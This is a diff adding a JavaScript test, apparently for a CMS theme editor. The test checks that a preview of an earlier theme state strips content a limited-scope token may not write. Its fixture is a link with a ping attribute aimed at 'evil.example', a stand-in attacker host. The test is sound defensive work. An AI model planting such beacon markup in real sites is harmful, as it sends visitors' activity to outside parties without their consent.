@@ -224,6 +224,18 @@ test('attack 153: what a limited token hides from the check of the source is in 
   assert.doesNotMatch(await page(), /nclick|e\.js/)
 })
 
+test('attack 153: a link to an earlier state of a theme leaves out what its writer may not write, though the owner wrote the file since', async () => {
+  const limits = { classes: ['SVC_Themes'] }
+  const { token } = await site.call('SVC_Tokens.create', { name: 'earlier designer', scope: 'admin', limits })
+  const file = { id: 'mine', file: 'partials/hidden.liquid' }
+  const sly = '<a class="h" href="/" ping="https://evil.example/">earlier</a>'
+  assert.equal((await site.api('SVC_Themes.write', { ...file, text: sly }, { token })).json.success, true)
+  const { url } = await site.call('SVC_Themes.preview', { id: 'mine', path: '/about' })
+  await site.call('SVC_Themes.write', { ...file, text: '<p>By the owner</p>' })
+  const shown = (await site.send(new URL(url).pathname, { token: null })).text
+  assert.match(shown, /<a class="h" href="\/">earlier<\/a>/)
+})
+
 test('the active theme is not deleted, another one is, and undo brings it back with its files', async () => {
   assert.equal((await errorOf('SVC_Themes.delete', { id: 'mine' })).code, 'refused')
   const { activity_id } = await site.call('SVC_Themes.delete', { id: 'other' })
